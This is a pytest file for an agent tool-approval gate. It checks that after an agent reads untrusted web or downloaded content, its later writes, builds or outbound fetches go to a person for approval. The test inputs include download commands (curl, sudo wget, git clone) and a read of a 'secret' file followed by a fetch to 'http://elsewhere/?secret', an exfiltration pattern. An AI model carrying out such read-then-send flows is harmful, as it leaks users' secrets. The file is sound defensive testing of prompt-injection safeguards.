"""Content from outside may carry orders; what happens after it was read is for a person."""

from __future__ import annotations

from typing import Any

import pytest

from tests.approvals.people import AGENT, YES, Person, Tools, allowed, gate_with
from toolcrib.approvals.facts import PastCall
from toolcrib.approvals.question import Answer
from toolcrib.approvals.rule import Rule
from toolcrib.schema.tools import Principal


async def test_a_write_after_untrusted_content_asks_whatever_the_rules_say() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    assert await allowed(gate, tools.call("files__write", path="a"))
    assert await allowed(gate, tools.call("web__fetch", url="x"))
    assert person.questions == []

    assert await allowed(gate, tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "web__fetch" in person.questions[0].reasons[0]
    assert person.questions[0].scopes == ("once",)


async def test_the_person_can_lift_it_for_the_session() -> None:
    tools, person = Tools(), Person(Answer(allow=True, lift=True))
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.check(tools.call("web__fetch", url="x"))

    for _ in range(3):
        assert await allowed(gate, tools.call("files__write", path="a"))

    assert len(person.questions) == 1


async def test_reading_goes_on_and_another_session_is_not_touched() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.check(tools.call("web__fetch", url="x"))

    assert await allowed(gate, tools.call("files__read", path="a"))
    assert await allowed(gate, tools.run("git status"))
    assert await allowed(gate, tools.call("files__write", Principal(name="agent", session="other"), path="a"))
    assert person.questions == []


async def test_the_third_leg_asks_and_names_the_flow() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    for _ in range(2):
        assert await allowed(gate, tools.call("web__fetch", url="x"))
    assert await allowed(gate, tools.call("files__read", path="secret"))
    assert person.questions == []

    await gate.check(tools.call("web__fetch", url="http://elsewhere/?secret"))

    assert "web__fetch" in person.questions[0].reasons[0]
    assert "files__read" in person.questions[0].reasons[0]


async def test_an_autonomous_run_does_not_cover_it() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.begin(AGENT, mode="session")
    await gate.check(tools.call("web__fetch", url="x"))

    await gate.check(tools.run("make"))

    assert person.questions[0].flow


@pytest.mark.parametrize(
    "command", ["curl http://127.0.0.1/", "cd /tmp && sudo wget x", "git clone -q https://127.0.0.1/x"]
)
async def test_a_download_by_command_counts_as_outside(command: str) -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    await gate.check(tools.run(command))

    await gate.check(tools.run("make"))

    assert [question.flow for question in person.questions] == [False, True]


async def test_a_session_that_goes_on_in_another_process_is_as_it_was() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    gate.recall(AGENT, [past(tools, "files__read", path="a"), past(tools, "web__fetch", url="x")])

    assert await allowed(gate, tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "web__fetch" in person.questions[0].reasons[0]
    assert "files__read" in person.questions[0].reasons[0]


async def test_what_is_gone_counts_as_a_tool_of_others() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    gate.recall(AGENT, [PastCall(name="gone__tool", tool=None, arguments={})])

    await gate.check(tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "gone__tool" in person.questions[0].reasons[0]


async def test_what_was_granted_in_another_process_is_not_granted_again() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.recall(AGENT, [past(tools, "terminal__request_session_mode", reason="work")])

    await gate.check(tools.run("make"))

    assert gate.mode_of(AGENT) == "on_miss"
    assert len(person.questions) == 1


async def test_a_session_is_told_of_once() -> None:
    tools, gate = Tools(), gate_with(None)
    told = iter([past(tools, "files__read", path="a")])
    gate.recall(AGENT, told)

    gate.recall(AGENT, (past(tools, "web__fetch", url="never looked at") for _ in range(1)))

    assert gate.sessions.of(AGENT).untrusted == ()


async def test_what_was_read_while_nobody_was_asked_still_counts_afterwards() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.begin(AGENT, asker=person, mode="off")
    assert await allowed(gate, tools.call("web__fetch", url="x"))
    assert await allowed(gate, tools.call("files__read", path="x"))
    assert await allowed(gate, tools.call("files__write", path="a"))
    assert person.questions == []

    gate.begin(AGENT, asker=person, mode="session")
    await gate.check(tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "files__read" in person.questions[0].reasons[0]


def past(tools: Tools, name: str, **arguments: Any) -> PastCall:
    return PastCall(name=name, tool=tools[name], arguments=arguments)
